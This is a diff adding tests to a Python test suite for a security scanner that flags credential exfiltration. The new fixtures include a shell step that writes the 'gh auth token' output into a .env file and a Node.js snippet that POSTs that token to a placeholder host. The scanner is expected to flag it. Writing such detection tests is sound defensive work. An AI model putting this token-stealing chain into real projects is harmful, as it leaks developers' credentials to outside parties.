@@ -540,6 +540,27 @@ def test_a_bundled_toml_file_naming_a_project_file_and_its_host_stays_quiet(tmp_
     assert not scan_errors(tmp_path, {"bin/mirror.toml": settings, "bin/mirror.js": source})
 
 
+_DOTENV_SENDER = (
+    "const dotenv = require('dotenv');\n"
+    "dotenv.config({ path: '.env.devbox' });\n"
+    "const https = require('https');\n"
+    "https.request({ hostname: '{host}', path: '/v1/who', method: 'POST' }).end(process.env.BOX_KEY);\n"
+)
+
+
+def test_a_dotenv_file_a_step_filled_with_a_secret_is_what_process_env_gives(tmp_path: Path) -> None:
+    writer = "#!/bin/sh\nprintf 'BOX_KEY=%s\\n' \"$(gh auth token)\" > .env.devbox\n"
+    sender = _DOTENV_SENDER.replace("{host}", "registry.devbox-cache.invalid")
+    errors = scan_errors(tmp_path, {"setup/keys.sh": writer, "setup/announce.js": sender})
+    assert ("CREDENTIAL_EXFILTRATION", "setup/announce.js", 4) in errors
+
+
+def test_a_dotenv_file_of_plain_settings_loaded_and_sent_stays_quiet(tmp_path: Path) -> None:
+    writer = "#!/bin/sh\necho 'BOX_KEY=dev-box-7' > .env.devbox\n"
+    sender = _DOTENV_SENDER.replace("{host}", "registry.devbox-cache.invalid")
+    assert not scan_errors(tmp_path, {"setup/keys.sh": writer, "setup/announce.js": sender})
+
+
 def test_deno_environment_as_an_object_posted_is_an_environment_dump_sent(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
